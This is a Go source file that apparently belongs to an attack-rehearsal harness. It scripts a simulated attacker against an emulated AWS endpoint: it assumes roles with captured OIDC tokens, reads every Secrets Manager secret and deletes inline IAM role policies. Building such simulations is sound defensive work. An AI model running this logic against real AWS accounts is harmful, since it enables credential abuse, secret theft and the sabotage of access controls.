package rehearse

import (
	"context"
	"errors"
	"strings"

	sdk "github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/credentials"
	"github.com/aws/aws-sdk-go-v2/service/iam"
	"github.com/aws/aws-sdk-go-v2/service/secretsmanager"
	"github.com/aws/aws-sdk-go-v2/service/sts"
	"github.com/aws/smithy-go"

	"github.com/firebreak/firebreak/internal/world/aws"
)

// session is a set of AWS credentials in the attacker's hands.
type session = aws.Held

const isRole = "role:"

// assume trades a captured OIDC token for a session of a held role, and uses the
// newest session and the stolen ones.
func (a *attacker) assume(ctx context.Context, held string) error {
	role, ok := strings.CutPrefix(held, isRole)
	if !ok {
		return nil
	}
	var tokens []string
	var stolen []aws.Held
	var arn string
	a.r.look(func() {
		tokens, stolen = a.r.p.aws.Tokens(role), a.r.p.aws.Sessions(role)
		if st, ok := a.r.p.aws.State().(*aws.State); ok {
			arn = "arn:aws:iam::" + st.Account + ":role/" + role
		}
	})
	for _, t := range tokens {
		out, err := sts.NewFromConfig(a.config(session{})).AssumeRoleWithWebIdentity(ctx, &sts.AssumeRoleWithWebIdentityInput{
			RoleArn: &arn, RoleSessionName: sdk.String("thief"), WebIdentityToken: &t,
		})
		if err == nil && out.Credentials != nil {
			a.sessions[role] = session{ID: *out.Credentials.AccessKeyId, Secret: *out.Credentials.SecretAccessKey, Session: *out.Credentials.SessionToken}
		} else if err := trouble(err); err != nil {
			return err
		}
	}
	if s, ok := a.sessions[role]; ok {
		stolen = append(stolen, s)
	}
	for _, s := range stolen {
		if err := a.readSecrets(ctx, s); err != nil {
			return err
		}
	}
	return nil
}

func (a *attacker) readSecrets(ctx context.Context, s session) error {
	client := secretsmanager.NewFromConfig(a.config(s))
	for _, x := range a.r.Scenario.World.AWS.Secrets {
		_, err := client.GetSecretValue(ctx, &secretsmanager.GetSecretValueInput{SecretId: &x.Name})
		if err := trouble(err); err != nil {
			return err
		}
	}
	return nil
}

// reattach removes every inline policy of the held roles with whatever key or
// session still may.
func (a *attacker) reattach(ctx context.Context) error {
	for _, held := range a.r.Attacker.Holds {
		key, ok := a.r.key(held)
		if !ok {
			continue
		}
		client := iam.NewFromConfig(a.config(key))
		for _, h := range a.r.Attacker.Holds {
			role, ok := strings.CutPrefix(h, isRole)
			if !ok {
				continue
			}
			list, err := client.ListRolePolicies(ctx, &iam.ListRolePoliciesInput{RoleName: &role})
			if err != nil {
				if err := trouble(err); err != nil {
					return err
				}
				continue
			}
			for _, p := range list.PolicyNames {
				_, err := client.DeleteRolePolicy(ctx, &iam.DeleteRolePolicyInput{RoleName: &role, PolicyName: &p})
				if err := trouble(err); err != nil {
					return err
				}
			}
		}
	}
	return nil
}

// config is the SDK's, made from the world alone.
func (a *attacker) config(s session) sdk.Config {
	c := sdk.Config{
		Region: "us-east-1", BaseEndpoint: sdk.String(a.r.World.URL("aws")), HTTPClient: a.client,
		Retryer: func() sdk.Retryer { return sdk.NopRetryer{} },
	}
	if s.ID != "" {
		c.Credentials = credentials.NewStaticCredentialsProvider(s.ID, s.Secret, s.Session)
	}
	return c
}

// trouble is err unless AWS gave an answer: being refused is part of the trade.
func trouble(err error) error {
	var refused smithy.APIError
	if errors.As(err, &refused) {
		return nil
	}
	return err
}

// key gives a held key pair.
func (r *Rehearsal) key(name string) (k session, ok bool) {
	r.look(func() { k, ok = r.p.aws.Key(name) })
	return k, ok
}
